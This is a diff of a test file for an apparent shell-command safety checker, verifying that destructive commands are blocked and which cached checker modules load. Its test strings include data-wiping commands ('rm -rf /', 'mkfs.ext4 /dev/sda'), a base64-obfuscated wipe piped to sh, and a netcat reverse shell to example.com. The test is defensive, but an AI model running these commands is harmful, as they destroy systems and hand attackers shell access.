@@ -89,17 +89,22 @@ describe('compiled code', () => {
     const roomsFor = (command: string): readonly string[] => {
       rmSync(installation.cache, { recursive: true, force: true });
       expect(installation.judge(command).exitCode).toBe(2);
-      return installation.kept.filter((name) => name.startsWith('shell-'));
+      return installation.kept.flatMap((name) => /^shell-(\w+)/.exec(name)?.[1] ?? []);
     };
     expect(roomsFor('rm -rf /')).toEqual([]);
     expect(installation.kept).toEqual(['entry.cjs.young', 'files.cjs.young', 'shell.cjs.young']);
-    expect(roomsFor('for d in / ~; do sudo chmod -R 777 "$d"; done')).toEqual([]);
-    expect(roomsFor('git push --force origin main')).toEqual(['shell-git.cjs.young']);
-    expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['shell-tools.cjs.young']);
-    expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['shell-network.cjs.young']);
-    expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['shell-texts.cjs.young']);
-    expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['shell-windows.cjs.young']);
-    expect(roomsFor('perl -e "unlink glob(\'/*\')"')).toEqual(['shell-code.cjs.young']);
+    expect(roomsFor('for f in *.ts; do rm -rf / || exit 1; done > "$log"')).toEqual([]);
+    expect(roomsFor('sudo rm -rf /')).toEqual(['starters']);
+    expect(roomsFor('chmod -R 777 /')).toEqual(['files']);
+    expect(roomsFor('rm -rf ~')).toEqual(['words']);
+    expect(roomsFor('cd / && rm -rf *')).toEqual([]);
+    expect(roomsFor('[ -d / ] && rm -rf /')).toEqual(['builtins']);
+    expect(roomsFor('git push --force origin main')).toEqual(['git']);
+    expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['tools']);
+    expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['network']);
+    expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['starters', 'texts']);
+    expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['windows']);
+    expect(roomsFor('perl -e "unlink glob(\'/*\')"')).toEqual(['code']);
   });
 
   it('is kept apart for each set of options that Node is given, and not for endlessly many', () => {
